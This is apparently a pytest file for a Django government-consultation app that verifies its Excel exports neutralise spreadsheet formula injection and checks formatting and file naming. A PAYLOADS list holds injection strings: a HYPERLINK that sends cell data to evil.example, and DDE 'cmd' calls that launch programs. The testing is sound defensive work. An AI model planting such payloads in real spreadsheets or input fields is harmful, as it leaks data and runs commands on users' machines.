"""No user-entered cell of any export is ever a formula, and every sheet is one staff can filter, sort and print.

The payloads are what a department or a member could type into a 文号, a title or a destination: a live
HYPERLINK, DDE calls, and text starting with + - @ tab or CR. Every export is fetched and its XML read.
"""
import datetime
import io
import re
import zipfile
from urllib.parse import unquote

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from openpyxl import load_workbook

from chengwu_cppcc.exports import Link, Percent, Sheet, content_disposition, text_width, workbook_bytes
from notifications.models import Notification
from notifications.services import notify
from outcomes.models import Assignment, ContactKind, Outcome, Reply, SupervisionCase
from outcomes.services import assignments as assignment_services
from outcomes.services import replies as reply_services
from outcomes.services import supervision as supervision_services
from research import services as research_services
from research.models import Activity, Report
from topics.models import Topic

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _formula_free(content: bytes) -> dict[str, str]:
    """The sheets' XML; asserts that none holds a formula element."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = {n: archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")}
        shared = archive.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in archive.namelist() else ""
    for name, xml in sheets.items():
        assert "<f>" not in xml and "<f " not in xml, name
        assert 't="str"' not in xml, name  # the type openpyxl gives a formula's cached text
    return {"shared": shared, **sheets}


@pytest.fixture
def poisoned(users, departments, make_forwarded, make_group):
    """Every list has one row whose user-entered texts are payloads."""
    assignment = make_forwarded(departments[0])
    assignment_services.assignment_log_contact(
        actor=users["department"], assignment_id=assignment.pk, kind=ContactKind.BEFORE_REPLY,
        held_on=timezone.localdate(), summary="答复前协商",
    )
    reply = reply_services.reply_create(
        actor=users["department"], assignment_id=assignment.pk, text="答复", document_number=PAYLOADS[0],
        file=SimpleUploadedFile("答复.pdf", b"%PDF-1.4\n%%EOF\n", content_type="application/pdf"),
        stances=[{"suggestion": s.pk, "stance": "adopted", "reason": ""} for s in assignment.outcome.suggestions.all()],
    )
    reply_services.reply_submit(actor=users["department"], reply_id=reply.pk)
    supervision_services.case_open(
        actor=users["staff"], outcome_id=assignment.outcome_id, title="督办", committee_office="城建委",
    )
    group = make_group(users["vice_chair"], visit_to="寿光市")
    research_services.group_advance(actor=users["vice_chair"], group_id=group.pk, to_state="studying")
    report = research_services.report_create_draft(
        actor=users["vice_chair"], group_id=group.pk, title="调研报告", body="正文",
        suggestions=[{"title": "建议一", "content": "内容"}],
    )
    research_services.report_submit(actor=users["vice_chair"], report_id=report.pk)
    notify(recipients=[users["staff"]], kind="test", title="通知", body="正文", url="/outcomes/")
    # What a hostile or careless user could have typed, in every text column.
    Topic.objects.update(title=PAYLOADS[1], origin_reference=PAYLOADS[4])
    Outcome.objects.update(title=PAYLOADS[2], document_number=PAYLOADS[3])
    Reply.objects.update(document_number=PAYLOADS[0])
    SupervisionCase.objects.update(title=PAYLOADS[5], committee_office=PAYLOADS[6], result=PAYLOADS[1])
    Activity.objects.update(destination=PAYLOADS[3], title=PAYLOADS[4], hosts=PAYLOADS[0])
    Report.objects.update(title=PAYLOADS[5])
    Notification.objects.update(title=PAYLOADS[6], body=PAYLOADS[0])
    return {"assignment": Assignment.objects.get(pk=assignment.pk), "reply": reply}


EXPORTS = [
    ("staff", "/topics/export.xlsx"),
    ("staff", "/research/export.xlsx"),
    ("staff", "/research/visits/export.xlsx"),
    ("vice_chair", "/research/reviews/export.xlsx"),
    ("staff", "/outcomes/export.xlsx"),
    ("staff", "/outcomes/assignments/export.xlsx"),
    ("leader_in_charge", "/outcomes/approvals/export.xlsx"),
    ("staff", "/outcomes/supervision/export.xlsx"),
    ("staff", "/notifications/export.xlsx"),
    ("staff", "/stats/export.xlsx"),
]


def test_no_user_entered_cell_in_any_export_is_a_formula(client_for, users, poisoned):
    seen = set()
    for role, path in EXPORTS:
        response = client_for(users[role]).get(path)
        assert response.status_code == 200, path
        xml = _formula_free(response.content)
        workbook = load_workbook(io.BytesIO(response.content))
        for worksheet in workbook.worksheets:
            for row in worksheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path, cell.coordinate, cell.value)
                    if cell.value in PAYLOADS:
                        seen.add(cell.value)
                        assert cell.data_type == "s" and cell.quotePrefix, (path, cell.coordinate)
        # The payload is stored as text (an inline or shared string), never with a formula element.
        assert all(re.findall(r'<c [^>]*t="(?:s|inlineStr|n|b|d)"', v) for k, v in xml.items() if k != "shared")
    # The evaluation queue once the reply is approved: the 文号 =HYPERLINK(…) reaches the office too.
    reply_services.reply_approve(actor=users["leader_in_charge"], reply_id=poisoned["reply"].pk, comments="同意")
    response = client_for(users["staff"]).get("/outcomes/evaluations/export.xlsx")
    _formula_free(response.content)
    assert PAYLOADS[0] in [c.value for c in load_workbook(io.BytesIO(response.content)).active["E"]]
    assert seen == set(PAYLOADS)


def test_the_writer_guards_every_prefix_and_keeps_ordinary_text_plain():
    content = workbook_bytes([Sheet("t", ["a"], [[p] for p in PAYLOADS] + [["普通文本"], ["a=b"]])])
    _formula_free(content)
    cells = list(load_workbook(io.BytesIO(content)).active["A"])[1:]
    assert [c.value for c in cells] == [*PAYLOADS, "普通文本", "a=b"]
    assert [c.quotePrefix for c in cells] == [True] * len(PAYLOADS) + [False, False]


def test_a_sheet_has_typed_cells_filter_widths_wrap_and_print_setup(settings):
    settings.SITE_URL = "https://zx.example.gov.cn/"
    moment = timezone.make_aware(datetime.datetime(2026, 12, 1, 9, 30, 15))
    long_text = "长" * 80
    content = workbook_bytes([
        Sheet("课题", ["标题", "日期", "时间", "数量", "比例", "链接"], [
            ["城区停车", datetime.date(2026, 12, 1), moment, 3, Percent(12.5), Link("/outcomes/1/")],
            [long_text, None, None, 0, Percent(None), ""],
        ]),
        Sheet("排名", ["名次"], [[1], [2]]),
    ])
    workbook = load_workbook(io.BytesIO(content))
    sheet = workbook["课题"]
    assert workbook.sheetnames == ["课题", "排名"]
    assert sheet["B2"].is_date and sheet["B2"].number_format == "yyyy-mm-dd"
    assert sheet["C2"].value == datetime.datetime(2026, 12, 1, 9, 30) and sheet["C2"].number_format == "yyyy-mm-dd hh:mm"
    assert sheet["D2"].value == 3 and sheet["D2"].data_type == "n"
    assert sheet["E2"].value == 0.125 and sheet["E2"].number_format == "0.0%" and sheet["E3"].value is None
    assert sheet["F2"].value == "https://zx.example.gov.cn/outcomes/1/"
    assert sheet["F2"].hyperlink.target == "https://zx.example.gov.cn/outcomes/1/"
    assert sheet.auto_filter.ref == "A1:F3"
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.fitToWidth == 1
    assert sheet.page_setup.fitToHeight == 0 and sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet["A3"].alignment.wrap_text
    # CJK counts two, digits one: "城区停车" is 8 wide, the long text is capped and wraps.
    assert sheet.column_dimensions["A"].width == 50
    assert sheet.column_dimensions["D"].width == text_width("数量") + 2


def test_file_names_are_chinese_with_the_date_in_rfc5987(client_for, users):
    response = client_for(users["staff"]).get("/topics/export.xlsx")
    disposition = response["Content-Disposition"]
    today = timezone.localdate().isoformat()
    assert disposition.startswith('attachment; filename="')
    name = unquote(re.search(r"filename\*=UTF-8''(\S+)", disposition).group(1))
    assert name == f"课题清单-{today}.xlsx"
    assert content_disposition('a"b;c.xlsx').startswith('attachment; filename="a_b_c.xlsx"')


def test_statistics_export_holds_the_full_ranking_on_its_own_sheet(client_for, users, departments, make_forwarded):
    make_forwarded(departments[0])
    make_forwarded(departments[1])
    response = client_for(users["staff"]).get("/stats/export.xlsx")
    workbook = load_workbook(io.BytesIO(response.content))
    assert len(workbook.sheetnames) == 3
    ranking = [list(r) for r in workbook.worksheets[1].iter_rows(values_only=True)]
    assert ranking[0][:3] == ["名次", "承办单位", "交办件（主办）"] and len(ranking[0]) == 11
    assert sorted(r[1] for r in ranking[1:]) == sorted(d.name for d in departments[:2])
    figures = workbook.worksheets[0]
    assert all(c.data_type in ("n", "s") for c in figures["C"][1:])


def test_notification_links_are_absolute(client_for, users, settings):
    settings.SITE_URL = "https://zx.example.gov.cn"
    notify(recipients=[users["staff"]], kind="test", title="通知", url="/outcomes/")
    workbook = load_workbook(io.BytesIO(client_for(users["staff"]).get("/notifications/export.xlsx").content))
    assert workbook.active["D2"].value == "https://zx.example.gov.cn/outcomes/"
